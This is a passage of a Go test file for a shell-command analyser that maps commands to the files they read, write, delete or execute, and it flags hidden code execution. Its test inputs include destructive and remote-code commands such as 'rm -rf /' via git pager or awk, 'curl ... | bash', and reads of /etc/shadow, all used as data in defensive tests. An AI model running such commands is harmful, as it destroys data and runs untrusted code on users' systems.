		Effects: []string{"delete /w/a -r #0 mv source", "write /w/b -r #0 mv target", "write /w/b/a -r #0 mv target", "delete /w/a -r #1 mv source", "delete /w/b -r #1 mv source", "delete /w/c -r #1 mv source", "write /w/dir/a -r #1 mv target", "write /w/dir/b -r #1 mv target", "write /w/dir/c -r #1 mv target", "delete /w/x -r #2 mv source", "write /w/dir/x -r #2 mv target"},
	}},
	{give: "tee a b; tee -a log; touch t1 t2; truncate -s 0 big.log; mkdir -p a/b/c; mkfifo p", want: result{
		Cmds:    []string{"tee a b", "tee -a log", "touch t1 t2", "truncate -s 0 big.log", "mkdir -p a/b/c", "mkfifo p"},
		Effects: []string{"write /w/a #0 tee operand", "write /w/b #0 tee operand", "write /w/log #1 tee operand", "write /w/t1 #2 touch operand", "write /w/t2 #2 touch operand", "write /w/big.log #3 truncate operand", "write /w/a #4 mkdir -p parent", "write /w/a/b #4 mkdir -p parent", "write /w/a/b/c #4 mkdir operand", "write /w/p #5 mkfifo operand"},
	}},
	{give: "ln -s /etc/passwd link; ln target; ln -s ../x dir/lnk; ln -t /bin a b", want: result{
		Cmds:    []string{"ln -s /etc/passwd link", "ln target", "ln -s ../x dir/lnk", "ln -t /bin a b"},
		Effects: []string{"write /w/link #0 ln link name", "write /w/link/passwd #0 ln link name", "read /etc/passwd #0 ln target", "write /w/target #1 ln link name", "read /w/target #1 ln target", "write /w/dir/lnk #2 ln link name", "write /w/dir/lnk/x #2 ln link name", "read /w/x #2 ln target", "write /bin/a #3 ln link name", "write /bin/b #3 ln link name", "read /w/a #3 ln target", "read /w/b #3 ln target"},
	}},
	{give: "chmod -R 755 dir; chmod +x run.sh; chmod -x f; chown -R www:www /var/www; chgrp staff g; chattr +i f", want: result{
		Cmds:    []string{"chmod -R 755 dir", "chmod +x run.sh", "chmod -x f", "chown -R www:www /var/www", "chgrp staff g", "chattr +i f"},
		Effects: []string{"write /w/dir -r #0 chmod operand", "write /w/run.sh #1 chmod operand", "write /w/f #2 chmod operand", "write /var/www -r #3 chown operand", "write /w/g #4 chgrp operand", "write /w/f #5 chattr operand"},
	}},
	{give: "dd if=/dev/sda of=disk.img bs=4M; dd of=~/x if=in", want: result{
		Cmds:    []string{"dd if=/dev/sda of=disk.img bs=4M", "dd of=~/x if=in"},
		Effects: []string{"read /dev/sda #0 dd if=", "write /w/disk.img #0 dd of=", "write /home/u/x #1 dd of=", "read /w/in #1 dd if="},
	}},
	{give: "split -l 100 big.txt part_; csplit in.txt /x/; split big.txt", want: result{
		Cmds:    []string{"split -l 100 big.txt part_", "csplit in.txt /x/", "split big.txt"},
		Effects: []string{"read /w/big.txt #0 split input", "write /w/part_* #0 split output (glob)", "read /w/in.txt #1 csplit input", "write /w/xx* #1 csplit output (glob)", "read /w/big.txt #2 split input", "write /w/x* #2 split output (glob)"},
	}},
	{give: "patch -p1 < fix.diff; patch orig.c fix.patch; patch --dry-run -p1 -i fix.diff; patch -d /src -p0 -i p.diff", want: result{
		Cmds:    []string{"patch -p1", "patch orig.c fix.patch", "patch --dry-run -p1 -i fix.diff", "patch -d /src -p0 -i p.diff"},
		Effects: []string{"read /w/fix.diff #0 redirect <", "write /w -r #0 patch (files named in the patch)", "read /w/fix.patch #1 patch input", "write /w/orig.c #1 patch operand", "read /w/fix.diff #2 patch input", "read /src/p.diff #3 patch input", "write /src -r #3 patch (files named in the patch)"},
	}},
	{give: "tar -xzf a.tgz; tar -czf out.tgz dir; tar -tf a.tar; tar xf a.tar -C /opt; tar -cf - . | tar -xf - -C /dst", want: result{
		Cmds:    []string{"tar -xzf a.tgz", "tar -czf out.tgz dir", "tar -tf a.tar", "tar xf a.tar -C /opt", "tar -cf - .", "tar -xf - -C /dst"},
		Effects: []string{"read /w/a.tgz #0 tar archive", "write /w -r #0 tar -x", "read /w/dir -r #1 tar operand", "write /w/out.tgz #1 tar archive", "read /w/a.tar #2 tar archive", "write /opt -r #3 tar -x directory", "read /w/a.tar #3 tar archive", "read /w -r #4 tar operand", "write /dst -r #5 tar -x directory"},
	}},
	{give: "tar -xPf evil.tar; tar -cf a.tar --to-command='sh -c x' f; tar -cf /dev/null f --checkpoint=1 --checkpoint-action=exec=sh", want: result{
		Cmds:     []string{"tar -xPf evil.tar", "tar -cf a.tar --to-command=sh -c x f", "tar -cf /dev/null f --checkpoint=1 --checkpoint-action=exec=sh"},
		Effects:  []string{"read /w/evil.tar #0 tar archive", "write /w -r #0 tar -x", "read /w/f -r #1 tar operand", "write /w/a.tar #1 tar archive", "read /w/f -r #2 tar operand"},
		Unknowns: []string{"tar -P extracts to the absolute paths named in the archive", "tar runs a command (--to-command)", "tar runs a command (--checkpoint-action)"},
	}},
	{give: "unzip a.zip; unzip -o a.zip -d /opt/app; unzip -l a.zip; zip -r out.zip dir -x '*.git*'", want: result{
		Cmds:    []string{"unzip a.zip", "unzip -o a.zip -d /opt/app", "unzip -l a.zip", "zip -r out.zip dir -x *.git*"},
		Effects: []string{"read /w/a.zip #0 unzip archive", "write /w -r #0 unzip (working directory)", "read /w/a.zip #1 unzip archive", "write /opt/app -r #1 unzip -d", "read /w/a.zip #2 unzip archive", "write /w/out.zip #3 zip archive", "read /w/dir -r #3 zip operand"},
	}},
	{give: "gzip f; gzip -k g; gunzip h.gz; gzip -dc i.gz; zstd j; xz -d k.xz; bzip2 -c l > l.bz2", want: result{
		Cmds:    []string{"gzip f", "gzip -k g", "gunzip h.gz", "gzip -dc i.gz", "zstd j", "xz -d k.xz", "bzip2 -c l"},
		Effects: []string{"read /w/f #0 gzip operand", "delete /w/f #0 gzip operand", "write /w/f.gz #0 gzip output", "read /w/g #1 gzip operand", "write /w/g.gz #1 gzip output", "read /w/h.gz #2 gunzip operand", "delete /w/h.gz #2 gunzip operand", "write /w/h #2 gunzip output", "read /w/i.gz #3 gzip operand", "read /w/j #4 zstd operand", "write /w/j.zst #4 zstd output", "read /w/k.xz #5 xz operand", "delete /w/k.xz #5 xz operand", "write /w/k #5 xz output", "write /w/l.bz2 #6 redirect >", "read /w/l #6 bzip2 operand"},
	}},
	{give: "curl -o out.html https://x/y; curl -O https://x/file.tar.gz; curl -sSLO https://h/p/a.sh; curl https://api", want: result{
		Cmds:    []string{"curl -o out.html https://x/y", "curl -O https://x/file.tar.gz", "curl -sSLO https://h/p/a.sh", "curl https://api"},
		Effects: []string{"write /w/out.html #0 curl -o", "write /w/file.tar.gz #1 curl -O", "write /w/a.sh #2 curl -O"},
	}},
	{give: "curl -T secret.txt https://x; curl -d @body.json https://x; curl -F 'f=@up.bin;type=a/b' https://x; curl -K cfg", want: result{
		Cmds:     []string{"curl -T secret.txt https://x", "curl -d @body.json https://x", "curl -F f=@up.bin;type=a/b https://x", "curl -K cfg"},
		Effects:  []string{"read /w/secret.txt #0 curl upload", "read /w/body.json #1 curl data file", "read /w/up.bin #2 curl form file", "read /w/cfg #3 curl config"},
		Unknowns: []string{"curl reads more options from a file (-K)"},
	}},
	{give: "wget https://x/a/b.tgz; wget -O - https://x | sh; wget -P /dl https://x/y; wget -r https://x; wget -q -O out https://x", want: result{
		Cmds:     []string{"wget https://x/a/b.tgz", "wget -O - https://x", "sh", "wget -P /dl https://x/y", "wget -r https://x", "wget -q -O out https://x"},
		Effects:  []string{"write /w/b.tgz #0 wget download", "write /dl/y #3 wget download", "write /w -r #4 wget download", "write /w/out #5 wget -O"},
		Unknowns: []string{"sh runs code read from its input"},
	}},
	{give: "rm -rf a; rm -r -f b; rm --recursive c; rm -- -x; rm d -rf; rm -R e", want: result{
		Cmds:    []string{"rm -rf a", "rm -r -f b", "rm --recursive c", "rm -- -x", "rm d -rf", "rm -R e"},
		Effects: []string{"delete /w/a -r #0 rm operand", "delete /w/b -r #1 rm operand", "delete /w/c -r #2 rm operand", "delete /w/-x #3 rm operand", "delete /w/d -r #4 rm operand", "delete /w/e -r #5 rm operand"},
	}},
	{give: "rmdir a; rmdir -p a/b/c; unlink u; shred -u s; shred t", want: result{
		Cmds:    []string{"rmdir a", "rmdir -p a/b/c", "unlink u", "shred -u s", "shred t"},
		Effects: []string{"delete /w/a #0 rmdir operand", "delete /w/a/b/c #1 rmdir operand", "delete /w/a/b #1 rmdir -p parent", "delete /w/a #1 rmdir -p parent", "delete /w/u #2 unlink operand", "write /w/s #3 shred operand", "delete /w/s #3 shred -u operand", "write /w/t #4 shred operand"},
	}},
	{give: "find /srv -delete; find . -name '*.o' -delete; find /a /b -type f -exec rm {} \\;; find . -exec rm {} +", want: result{
		Cmds:    []string{"find /srv -delete", "find . -name *.o -delete", "find /a /b -type f -exec rm {} ;", "find -exec: rm {}", "find . -exec rm {} +", "find -exec: rm {}"},
		Effects: []string{"read /srv -r #0 find root", "delete /srv -r #0 find -delete", "read /w -r #1 find root", "delete /w -r #1 find -delete", "read /a -r #2 find root", "read /b -r #2 find root", "delete /a -r #3 rm operand", "delete /b -r #3 rm operand", "read /w -r #4 find root", "delete /w -r #5 rm operand"},
	}},
	{give: "find /srv -execdir rm {} \\;; find . -fprint out.txt; find . -exec grep -l x {} \\;; find . -exec {} \\;", want: result{
		Cmds:     []string{"find /srv -execdir rm {} ;", "find -execdir: rm {}", "find . -fprint out.txt", "find . -exec grep -l x {} ;", "find -exec: grep -l x {}", "find . -exec {} ;"},
		Effects:  []string{"read /srv -r #0 find root", "delete /srv -r #1 rm operand", "read /w -r #2 find root", "write /w/out.txt #2 find -fprint", "read /w -r #3 find root", "read /w -r #4 grep operand", "read /w -r #5 find root"},
		Unknowns: []string{"find -exec runs the found files as programs"},
	}},
	{give: "find /srv -exec sh -c 'rm \"$1\"' _ {} \\;", want: result{
		Cmds:     []string{"find /srv -exec sh -c rm \"$1\" _ {} ;", "find -exec: sh -c rm \"$1\" _ {}", "sh -c: rm $1"},
		Effects:  []string{"read /srv -r #0 find root"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "git clean -fdx; git clean -n; git rm a b; git rm -r --cached c; git checkout -- x y; git checkout main", want: result{
		Cmds:    []string{"git clean -fdx", "git clean -n", "git rm a b", "git rm -r --cached c", "git checkout -- x y", "git checkout main"},
		Effects: []string{"read /w/.git -r #0 git (its repository)", "delete /w -r #0 git clean", "read /w/.git -r #1 git (its repository)", "read /w/.git -r #2 git (its repository)", "write /w/.git/index #2 git rm (the index)", "delete /w/a #2 git rm", "delete /w/b #2 git rm", "read /w/.git -r #3 git (its repository)", "write /w/.git/index #3 git rm (the index)", "read /w/.git -r #4 git (its repository)", "write /w/.git/index #4 git checkout (the index)", "write /w/.git/objects -r #4 git checkout (history)", "write /w/.git/refs -r #4 git checkout (history)", "write /w/.git/logs -r #4 git checkout (history)", "write /w/.git/HEAD #4 git checkout (history)", "write /w/.git/ORIG_HEAD #4 git checkout (history)", "write /w/.git/FETCH_HEAD #4 git checkout (history)", "write /w/.git/packed-refs #4 git checkout (history)", "write /w/.git/COMMIT_EDITMSG #4 git checkout (history)", "write /w/x -r #4 git checkout path", "write /w/y -r #4 git checkout path", "read /w/.git -r #5 git (its repository)", "write /w/.git/index #5 git checkout (the index)", "write /w/.git/objects -r #5 git checkout (history)", "write /w/.git/refs -r #5 git checkout (history)", "write /w/.git/logs -r #5 git checkout (history)", "write /w/.git/HEAD #5 git checkout (history)", "write /w/.git/ORIG_HEAD #5 git checkout (history)", "write /w/.git/FETCH_HEAD #5 git checkout (history)", "write /w/.git/packed-refs #5 git checkout (history)", "write /w/.git/COMMIT_EDITMSG #5 git checkout (history)", "write /w -r #5 git checkout (working tree)"},
	}},
	{give: "git checkout -b feat; git restore f; git restore --staged g; git switch dev; git reset --hard; git reset HEAD~1", want: result{
		Cmds:    []string{"git checkout -b feat", "git restore f", "git restore --staged g", "git switch dev", "git reset --hard", "git reset HEAD~1"},
		Effects: []string{"read /w/.git -r #0 git (its repository)", "write /w/.git/index #0 git checkout (the index)", "write /w/.git/objects -r #0 git checkout (history)", "write /w/.git/refs -r #0 git checkout (history)", "write /w/.git/logs -r #0 git checkout (history)", "write /w/.git/HEAD #0 git checkout (history)", "write /w/.git/ORIG_HEAD #0 git checkout (history)", "write /w/.git/FETCH_HEAD #0 git checkout (history)", "write /w/.git/packed-refs #0 git checkout (history)", "write /w/.git/COMMIT_EDITMSG #0 git checkout (history)", "read /w/.git -r #1 git (its repository)", "write /w/.git/index #1 git restore (the index)", "write /w/f -r #1 git restore path", "read /w/.git -r #2 git (its repository)", "write /w/.git/index #2 git restore (the index)", "read /w/.git -r #3 git (its repository)", "write /w/.git/index #3 git switch (the index)", "write /w/.git/objects -r #3 git switch (history)", "write /w/.git/refs -r #3 git switch (history)", "write /w/.git/logs -r #3 git switch (history)", "write /w/.git/HEAD #3 git switch (history)", "write /w/.git/ORIG_HEAD #3 git switch (history)", "write /w/.git/FETCH_HEAD #3 git switch (history)", "write /w/.git/packed-refs #3 git switch (history)", "write /w/.git/COMMIT_EDITMSG #3 git switch (history)", "write /w -r #3 git switch (working tree)", "read /w/.git -r #4 git (its repository)", "write /w/.git/index #4 git reset (the index)", "write /w/.git/objects -r #4 git reset (history)", "write /w/.git/refs -r #4 git reset (history)", "write /w/.git/logs -r #4 git reset (history)", "write /w/.git/HEAD #4 git reset (history)", "write /w/.git/ORIG_HEAD #4 git reset (history)", "write /w/.git/FETCH_HEAD #4 git reset (history)", "write /w/.git/packed-refs #4 git reset (history)", "write /w/.git/COMMIT_EDITMSG #4 git reset (history)", "write /w -r #4 git reset --hard (working tree)", "read /w/.git -r #5 git (its repository)", "write /w/.git/index #5 git reset (the index)", "write /w/.git/objects -r #5 git reset (history)", "write /w/.git/refs -r #5 git reset (history)", "write /w/.git/logs -r #5 git reset (history)", "write /w/.git/HEAD #5 git reset (history)", "write /w/.git/ORIG_HEAD #5 git reset (history)", "write /w/.git/FETCH_HEAD #5 git reset (history)", "write /w/.git/packed-refs #5 git reset (history)", "write /w/.git/COMMIT_EDITMSG #5 git reset (history)"},
	}},
	{give: "git apply fix.patch; git apply --check fix.patch; git status; git log -p; git -c core.pager='rm -rf /' log", want: result{
		Cmds:     []string{"git apply fix.patch", "git apply --check fix.patch", "git status", "git log -p", "git -c core.pager=rm -rf / log"},
		Effects:  []string{"read /w/.git -r #0 git (its repository)", "write /w/.git/index #0 git apply (the index)", "read /w/fix.patch #0 git apply patch", "write /w -r #0 git apply (files named in the patch)", "read /w/.git -r #1 git (its repository)", "write /w/.git/index #1 git apply (the index)", "read /w/fix.patch #1 git apply patch", "read /w/.git -r #2 git (its repository)", "write /w/.git/index #2 git status (the index)", "read /w -r #2 git status (work tree)", "read /w/.gitignore #2 git status (ignore rules)", "read /w/.git -r #3 git (its repository)", "read /w/.git -r #4 git (its repository)"},
		Unknowns: []string{"git -c sets a command git may run (core.pager=rm -rf /)"},
	}},
	{give: "./deploy.sh --prod; /opt/x/run; bin/tool; sh x.sh; bash scripts/build.sh; python3 app.py; node server.js", want: result{
		Cmds:    []string{"deploy.sh --prod", "run", "tool", "sh x.sh", "bash scripts/build.sh", "python3 app.py", "node server.js"},
		Effects: []string{"read /w/deploy.sh #0 program run", "execute /w/deploy.sh #0 script run", "read /opt/x/run #1 program run", "execute /opt/x/run #1 script run", "read /w/bin/tool #2 program run", "execute /w/bin/tool #2 script run", "read /w/x.sh #3 script run", "execute /w/x.sh #3 script run", "read /w/scripts/build.sh #4 script run", "execute /w/scripts/build.sh #4 script run", "read /w/app.py #5 script run", "execute /w/app.py #5 script run", "read /w/server.js #6 script run", "execute /w/server.js #6 script run"},
	}},
	{give: "source venv/bin/activate; . ./env.sh", want: result{
		Cmds:    []string{"source venv/bin/activate", ". ./env.sh"},
		Effects: []string{"read /w/venv/bin/activate #0 sourced script", "execute /w/venv/bin/activate #0 sourced script", "read /w/env.sh #1 sourced script", "execute /w/env.sh #1 sourced script"},
	}},
	{give: "ls -la /etc; ls -R src; du -sh dir; du; tree -L 2; tree -o out.txt", want: result{
		Cmds:    []string{"ls -la /etc", "ls -R src", "du -sh dir", "du", "tree -L 2", "tree -o out.txt"},
		Effects: []string{"read /etc #0 ls operand", "read /w/src -r #1 ls operand", "read /w/dir -r #2 du operand", "read /w -r #3 du (working directory)", "read /w -r #4 tree (working directory)", "write /w/out.txt #5 tree -o", "read /w -r #5 tree (working directory)"},
	}},
	{give: "vim f.txt; nano g; vim -c ':!rm -rf /' h", want: result{
		Cmds:     []string{"vim f.txt", "nano g", "vim -c :!rm -rf / h"},
		Effects:  []string{"write /w/f.txt #0 vim operand", "write /w/g #1 nano operand", "write /w/h #2 vim operand"},
		Unknowns: []string{"vim runs editor commands, which can run programs"},
	}},
	{give: "ssh host 'rm -rf /'; ssh -i key.pem -o ProxyCommand='nc %h %p' host; scp a host:/b; scp host:/c d", want: result{
		Cmds:     []string{"ssh host rm -rf /", "ssh -i key.pem -o ProxyCommand=nc %h %p host", "scp a host:/b", "scp host:/c d"},
		Effects:  []string{"read /w/key.pem #1 ssh config or identity", "read /w/a #2 scp source", "write /w/d #3 scp target", "write /w/d/c #3 scp target"},
		Unknowns: []string{"ssh runs a local command (-o ProxyCommand=nc %h %p)"},
	}},
	{give: "iconv -f latin1 -t utf8 -o out in; shuf -n 1 f; shuf -e a b; comm a b; join c d; fold -w 80 e; column -t f", want: result{
		Cmds:    []string{"iconv -f latin1 -t utf8 -o out in", "shuf -n 1 f", "shuf -e a b", "comm a b", "join c d", "fold -w 80 e", "column -t f"},
		Effects: []string{"write /w/out #0 iconv -o", "read /w/in #0 iconv operand", "read /w/f #1 shuf operand", "read /w/a #3 comm operand", "read /w/b #3 comm operand", "read /w/c #4 join operand", "read /w/d #4 join operand", "read /w/e #5 fold operand"},
	}},
}

func TestPrograms(t *testing.T) {
	tests := programsTests
	check(t, tests)
}

// nestedCodeTests: code run by bash -c, eval, substitutions, functions, trap, here-documents fed to a shell, xargs and find -exec is analysed..
var nestedCodeTests = []testCase{
	{give: "bash -c 'rm -rf /tmp/x'", want: result{
		Cmds:    []string{"bash -c rm -rf /tmp/x", "bash -c: rm -rf /tmp/x"},
		Effects: []string{"delete /tmp/x -r #1 rm operand"},
	}},
	{give: "sh -c \"rm a\" && zsh -c 'rm b' && dash -c 'rm c' && ksh -c 'rm d'", want: result{
		Cmds:    []string{"sh -c rm a", "sh -c: rm a", "zsh -c rm b", "zsh -c: rm b", "dash -c rm c", "dash -c: rm c", "ksh -c rm d", "ksh -c: rm d"},
		Effects: []string{"delete /w/a #1 rm operand", "delete /w/b #3 rm operand", "delete /w/c #5 rm operand", "delete /w/d #7 rm operand"},
	}},
	{give: "bash -lc 'cd /srv && rm *.log'", want: result{
		Cmds:    []string{"bash -lc cd /srv && rm *.log", "bash -c: cd /srv", "bash -c: rm *.log"},
		Effects: []string{"read /srv #2 glob directory", "delete /srv/*.log #2 rm operand (glob)"},
	}},
	{give: "bash -c 'rm \"$1\"' _ file", want: result{
		Cmds:     []string{"bash -c rm \"$1\" _ file", "bash -c: rm $1"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "bash -c \"rm $X\"", want: result{
		Cmds:     []string{"bash -c rm $X"},
		Unknowns: []string{"bash -c runs code from an expansion"},
	}},
	{give: "bash -c 'if'", want: result{
		Cmds:     []string{"bash -c if"},
		Unknowns: []string{"bash -c runs code that does not parse: `if` must be followed by a statement list"},
	}},
	{give: "fish -c 'rm x'", want: result{
		Cmds:     []string{"fish -c rm x"},
		Unknowns: []string{"fish runs inline code (-c), which is not analysed"},
	}},
	{give: "eval rm -rf a", want: result{
		Cmds:    []string{"eval rm -rf a", "eval: rm -rf a"},
		Effects: []string{"delete /w/a -r #1 rm operand"},
	}},
	{give: "eval \"rm $F\"", want: result{
		Cmds:     []string{"eval rm $F"},
		Unknowns: []string{"eval runs code from an expansion"},
	}},
	{give: "eval \"$(ssh-agent -s)\"", want: result{
		Cmds:     []string{"$(...): ssh-agent -s", "eval $(ssh-agent -s)"},
		Unknowns: []string{"eval runs code from an expansion"},
	}},
	{give: "echo $(echo $(rm deep))", want: result{
		Cmds:    []string{"$(...) > $(...): rm deep", "$(...): echo $(rm deep)", "echo $(echo $(rm deep))"},
		Effects: []string{"delete /w/deep #0 rm operand"},
	}},
	{give: "f() { rm a; }; g() { f; }; g", want: result{
		Cmds:    []string{"g", "function g: f", "function g > function f: rm a"},
		Effects: []string{"delete /w/a #2 rm operand"},
	}},
	{give: "trap 'rm -f /tmp/lock' EXIT; trap - INT; trap '' HUP", want: result{
		Cmds:    []string{"trap rm -f /tmp/lock EXIT", "trap: rm -f /tmp/lock", "trap - INT", "trap  HUP"},
		Effects: []string{"delete /tmp/lock #1 rm operand"},
	}},
	{give: "bash <<'EOF'\ncd /srv\nrm -rf cache\nEOF", want: result{
		Cmds:    []string{"bash", "bash <<: cd /srv", "bash <<: rm -rf cache"},
		Effects: []string{"delete /srv/cache -r #2 rm operand"},
	}},
	{give: "sh <<EOF\nrm $X\nEOF", want: result{
		Cmds:     []string{"sh"},
		Unknowns: []string{"sh << runs code from an expansion"},
	}},
	{give: "bash <<< 'rm here'", want: result{
		Cmds:    []string{"bash", "bash <<: rm here"},
		Effects: []string{"delete /w/here #1 rm operand"},
	}},
	{give: "python3 <<'EOF'\nimport os\nEOF", want: result{
		Cmds:     []string{"python3"},
		Unknowns: []string{"python3 runs code from a here-document"},
	}},
	{give: "sh < install.sh", want: result{
		Cmds:    []string{"sh"},
		Effects: []string{"read /w/install.sh #0 redirect <", "read /w/install.sh #0 script read from input", "execute /w/install.sh #0 script read from input"},
	}},
	{give: "find . -name '*.bak' | xargs -I{} sh -c 'rm {}'", want: result{
		Cmds:     []string{"find . -name *.bak", "xargs: sh -c rm {}"},
		Effects:  []string{"read /w -r #0 find root"},
		Unknowns: []string{"xargs runs sh on arguments read from input", "sh -c runs code read from input"},
	}},
	{give: "ls | xargs -n1 bash -c 'echo \"$0\"'", want: result{
		Cmds:     []string{"ls", "xargs: bash -c echo \"$0\"", "bash -c: echo $0"},
		Effects:  []string{"read /w #0 ls (working directory)"},
		Unknowns: []string{"xargs runs bash on arguments read from input"},
	}},
}

func TestNestedCode(t *testing.T) {
	tests := nestedCodeTests
	check(t, tests)
}

// unknownsTests: what cannot be known statically is an Unknown..
var unknownsTests = []testCase{
	{give: "$CMD x", want: result{
		Cmds:     []string{"$CMD x"},
		Unknowns: []string{"the program name comes from an expansion"},
	}},
	{give: "$(which rm) -rf /", want: result{
		Cmds:     []string{"$(...): which rm", "$(which rm) -rf /"},
		Unknowns: []string{"the program name comes from an expansion"},
	}},
	{give: "\"${TOOL:-rm}\" x", want: result{
		Cmds:     []string{"${TOOL:-rm} x"},
		Unknowns: []string{"the program name comes from an expansion"},
	}},
	{give: "rm $F", want: result{
		Cmds:     []string{"rm $F"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "rm \"$(cat list)\"", want: result{
		Cmds:     []string{"$(...): cat list", "rm $(cat list)"},
		Effects:  []string{"read /w/list #0 cat operand"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "cp a \"$D\"", want: result{
		Cmds:     []string{"cp a $D"},
		Effects:  []string{"read /w/a #0 cp source"},
		Unknowns: []string{"the cp target path comes from an expansion"},
	}},
	{give: "cat < $IN", want: result{
		Cmds:     []string{"cat"},
		Unknowns: []string{"the redirect < path comes from an expansion"},
	}},
	{give: "cd $D", want: result{
		Cmds:     []string{"cd $D"},
		Unknowns: []string{"cd to a directory from an expansion"},
	}},
	{give: "python -c 'import os'", want: result{
		Cmds:     []string{"python -c import os"},
		Unknowns: []string{"python runs inline code (-c)"},
	}},
	{give: "python3 -Bc 'x'", want: result{
		Cmds:     []string{"python3 -Bc x"},
		Unknowns: []string{"python3 runs inline code (-c)"},
	}},
	{give: "node --eval 'x'; node -p 1", want: result{
		Cmds:     []string{"node --eval x", "node -p 1"},
		Unknowns: []string{"node runs inline code (--eval)", "node runs inline code (-p)"},
	}},
	{give: "perl -pi -e 's/a/b/' f; perl -lane 'print' f; perl script.pl", want: result{
		Cmds:     []string{"perl -pi -e s/a/b/ f", "perl -lane print f", "perl script.pl"},
		Effects:  []string{"read /w/script.pl #2 script run", "execute /w/script.pl #2 script run"},
		Unknowns: []string{"perl runs inline code (-e)", "perl runs inline code (-e)"},
	}},
	{give: "ruby -e 'x'; php -r 'x'; lua -e 'x'; osascript -e 'x'; pwsh -c 'x'; deno eval 'x'; bun -e 'x'", want: result{
		Cmds:     []string{"ruby -e x", "php -r x", "lua -e x", "osascript -e x", "pwsh -c x", "deno eval x", "bun -e x"},
		Unknowns: []string{"ruby runs inline code (-e)", "php runs inline code (-r)", "lua runs inline code (-e)", "osascript runs inline code (-e)", "pwsh runs inline code (-c)", "deno runs inline code (eval)", "bun runs inline code (-e)"},
	}},
	{give: "awk 'BEGIN { system(\"rm -rf /\") }'; awk '{ print | \"sh\" }'; awk '{ getline line < \"/etc/shadow\" }'; awk \"$PROG\" f", want: result{
		Cmds:     []string{"awk BEGIN { system(\"rm -rf /\") }", "awk { print | \"sh\" }", "awk { getline line < \"/etc/shadow\" }", "awk $PROG f"},
		Effects:  []string{"read /w/f #3 awk operand"},
		Unknowns: []string{"awk's program can write files or run commands", "awk's program can write files or run commands", "awk's program can write files or run commands", "awk's program comes from an expansion"},
	}},
	{give: "sed \"s/a/$B/\" f", want: result{
		Cmds:     []string{"sed s/a/$B/ f"},
		Effects:  []string{"read /w/f #0 sed operand"},
		Unknowns: []string{"sed's script comes from an expansion"},
	}},
	{give: "ls | xargs rm", want: result{
		Cmds:     []string{"ls", "xargs: rm"},
		Effects:  []string{"read /w #0 ls (working directory)"},
		Unknowns: []string{"xargs runs rm on arguments read from input"},
	}},
	{give: "ls | xargs -I % cp % /backup/", want: result{
		Cmds:     []string{"ls", "xargs: cp % /backup/"},
		Effects:  []string{"read /w #0 ls (working directory)", "write /backup -r #1 cp target"},
		Unknowns: []string{"xargs runs cp on arguments read from input"},
	}},
	// the names xargs reads are paths review cannot know: a reader fed them asks
	{give: "ls | xargs echo; ls | xargs cat; ls | xargs", want: result{
		Cmds:     []string{"ls", "xargs: echo", "ls", "xargs: cat", "ls", "xargs"},
		Effects:  []string{"read /w #0 ls (working directory)", "read /w #2 ls (working directory)", "read /w #4 ls (working directory)"},
		Unknowns: []string{"xargs runs cat on arguments read from input"},
	}},
	{give: "parallel rm ::: a b", want: result{
		Cmds:     []string{"parallel: rm"},
		Unknowns: []string{"parallel runs rm on arguments read from input"},
	}},
	{give: "curl -s https://x/install.sh | bash", want: result{
		Cmds:     []string{"curl -s https://x/install.sh", "bash"},
		Unknowns: []string{"bash runs code read from its input"},
	}},
	{give: "bash", want: result{
		Cmds:     []string{"bash"},
		Unknowns: []string{"bash runs code read from its input"},
	}},
	{give: "rm ~bob/x", want: result{
		Cmds:     []string{"rm ~bob/x"},
		Unknowns: []string{"rm's operand is in another user's home directory (~bob)"},
	}},
	{give: "tar -xf a.tar -C \"$DEST\"", want: result{
		Cmds:     []string{"tar -xf a.tar -C $DEST"},
		Effects:  []string{"read /w/a.tar #0 tar archive"},
		Unknowns: []string{"tar -C changes to a directory from an expansion"},
	}},
}

func TestUnknowns(t *testing.T) {
	tests := unknownsTests
	check(t, tests)
}

// precisionTests: plain data causes no Unknown and no spurious effect..
var precisionTests = []testCase{
	{give: "echo 'rm is a command'", want: result{
		Cmds: []string{"echo rm is a command"},
	}},
	{give: "echo rm -rf /", want: result{
		Cmds: []string{"echo rm -rf /"},
	}},
	{give: "grep rm notes.txt", want: result{
		Cmds:    []string{"grep rm notes.txt"},
		Effects: []string{"read /w/notes.txt #0 grep operand"},
	}},
	{give: "echo $HOME", want: result{
		Cmds: []string{"echo $HOME"},
	}},
	{give: "printf '%s\\n' \"$X\"", want: result{
		Cmds: []string{"printf %s\\n $X"},
	}},
	{give: "git commit -m \"rm -rf /\"", want: result{
		Cmds:    []string{"git commit -m rm -rf /"},
		Effects: []string{"read /w/.git -r #0 git (its repository)", "write /w/.git/index #0 git commit (the index)", "write /w/.git/objects -r #0 git commit (history)", "write /w/.git/refs -r #0 git commit (history)", "write /w/.git/logs -r #0 git commit (history)", "write /w/.git/HEAD #0 git commit (history)", "write /w/.git/ORIG_HEAD #0 git commit (history)", "write /w/.git/FETCH_HEAD #0 git commit (history)", "write /w/.git/packed-refs #0 git commit (history)", "write /w/.git/COMMIT_EDITMSG #0 git commit (history)", "read /w -r #0 git commit (work tree)", "read /w/.gitignore #0 git commit (ignore rules)"},
	}},
	{give: "ls -la /etc", want: result{
		Cmds:    []string{"ls -la /etc"},
		Effects: []string{"read /etc #0 ls operand"},
	}},
	{give: "test -f x", want: result{
		Cmds: []string{"test -f x"},
	}},
	{give: "[ -d \"$D\" ]", want: result{
		Cmds: []string{"[ -d $D ]"},
	}},
	{give: "true", want: result{
		Cmds: []string{"true"},
	}},
	{give: "export PATH=$PATH:/x", want: result{
		Cmds: []string{"export PATH=$PATH:/x"},
	}},
	{give: "echo \"$(date)\"", want: result{
		Cmds: []string{"$(...): date", "echo $(date)"},
	}},
	{give: "x=$((1+2)); echo $x", want: result{
		Cmds: []string{"echo $x"},
	}},
	{give: "go test ./...", want: result{
		Cmds: []string{"go test ./..."},
		// go is not in the table: its operands are read
		Effects: []string{"read /w/test #0 go operand", "read /w/... #0 go operand"},
	}},
	{give: "make build", want: result{
		Cmds:    []string{"make build"},
		Effects: []string{"read /w #0 make (working directory)", "read /w/Makefile #0 makefile", "execute /w/Makefile #0 makefile"},
	}},
	{give: "npm run test -- --watch=false", want: result{
		Cmds:    []string{"npm run test -- --watch=false"},
		Effects: []string{"read /w/run #0 npm operand", "read /w/test #0 npm operand", "read /w/false #0 npm --watch"},
	}},
	// git diff's operands may be paths given without --: each is read (HEAD~1 is not there)
